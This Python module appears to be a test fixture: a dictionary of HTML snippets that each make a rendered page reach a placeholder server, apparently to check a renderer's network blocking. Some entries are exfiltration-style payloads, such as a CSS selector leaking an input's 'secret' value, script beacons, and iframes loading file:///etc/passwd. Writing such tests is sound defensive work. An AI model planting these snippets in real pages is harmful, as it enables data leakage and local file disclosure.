"""Pages that try to reach a server, each in its way; AT stands for the server's address."""

AT = "AT"  # host:port

REACHING = {
    "picture": "<img src='http://AT/1.png' srcset='http://AT/2.png 2x'>",
    "picture source": "<picture><source srcset='//AT/1.webp'><img src=x></picture>",
    "background": "<div style='background:url(http://AT/1.png);height:9px'>",
    "old background": "<body background='http://AT/1.png'>",
    "import": "<style>@import url(http://AT/1.css);@import 'http://AT/2.css'</style>",
    "style sheet": "<link rel=stylesheet href='http://AT/1.css'>",
    "font": "<style>@font-face{font-family:f;src:url(http://AT/1.woff2)} p{font-family:f}</style><p>x",
    "image set": "<div style=\"background:image-set('http://AT/1.png' 1x);height:9px\">",
    "attribute selector": "<style>input[value^='s']{background:url(http://AT/s)}</style><input value='secret'>",
    "prefetch": "<link rel=prefetch href='http://AT/1'><link rel=dns-prefetch href='//AT'>",
    "preconnect": "<link rel=preconnect href='http://AT'>",
    "preload": "<link rel=preload as=image href='http://AT/1.png'><link rel=modulepreload href='http://AT/1.js'>",
    "icon": "<link rel=icon href='http://AT/1.ico'><link rel=manifest href='http://AT/1.json'>",
    "prerender": "<link rel=prerender href='http://AT/1'>"
    '<script type=speculationrules>{"prefetch":[{"urls":["http://AT/1"]}]}</script>',
    "script": "<script src='http://AT/1.js'></script><script type=module src='http://AT/2.js'></script>",
    "fetch": "<script>fetch('http://AT/1');new Image().src='http://AT/2';navigator.sendBeacon('http://AT/3')</script>",
    "web socket": "<script>new WebSocket('ws://AT/1');new EventSource('http://AT/2')</script>",
    "call": "<script>const c=new RTCPeerConnection({iceServers:[{urls:'turn:AT?transport=tcp',username:'a',"
    "credential:'b'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))</script>",
    "error handler": "<img src=x onerror=\"fetch('http://AT/1')\"><body onload=\"location='http://AT/2'\">",
    "refresh": "<meta http-equiv=refresh content='0;url=http://AT/1'>",
    "base": "<base href='http://AT/'><img src='1.png'><link rel=stylesheet href='1.css'>",
    "form": "<form action='http://AT/1' id=f><input autofocus onfocus='f.submit()'></form><script>f.submit()</script>",
    "frame": "<iframe src='http://AT/1'></iframe><iframe srcdoc=\"<img src='http://AT/2'>\"></iframe>",
    "data frame": "<iframe src=\"data:text/html,<img src='http://AT/1'><script>fetch('http://AT/2')</script>\"></iframe>",
    "frame set": "<frameset><frame src='http://AT/1'></frameset>",
    "object": "<object data='http://AT/1'></object><embed src='http://AT/2'>",
    "film": "<video src='http://AT/1.mp4' poster='http://AT/1.png' autoplay></video>"
    "<audio src='http://AT/1.mp3' autoplay></audio><video><track default src='http://AT/1.vtt'></video>",
    "vector picture": "<svg><image href='http://AT/1.png' width=9 height=9 /><use href='http://AT/1.svg#a' />"
    "<filter id=f><feImage href='http://AT/2.png' /></filter><rect width=9 height=9 filter=url(#f) />"
    "<rect width=9 height=9 filter='url(http://AT/2.svg#f)' /></svg>",
    "vector script": "<svg onload=\"fetch('http://AT/1')\"><script href='http://AT/1.js'/></svg>",
    "picture of a picture": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
    "<image href='http://AT/1.png'/></svg>\">",
    "download": "<a id=a download href='http://AT/1.zip'>x</a><script>a.click()</script>",
    "pop-up": "<script>open('http://AT/1')</script><a href='http://AT/1' target=_blank ping='http://AT/2'>x</a>",
    "cursor and others": "<style>p{cursor:url(http://AT/1.cur),auto;list-style:url(http://AT/2.png);content:url(http://AT/3);"
    "border-image:url(http://AT/4);mask:url(http://AT/5.svg#m);clip-path:url(http://AT/6#c);"
    "shape-outside:url(http://AT/7)} p::before{content:url(http://AT/8)}</style><p style='display:list-item'>x",
    "other schemes": "<img src='file:///etc/hostname'><img src='ftp://AT/1'><iframe src='file:///etc/passwd'></iframe>"
    "<iframe src='chrome://gpu'></iframe><img src='qrc:/x'><iframe src='prism-page:1'></iframe>",
    "portal and fenced": "<portal src='http://AT/1'></portal><fencedframe src='http://AT/2'></fencedframe>",
}
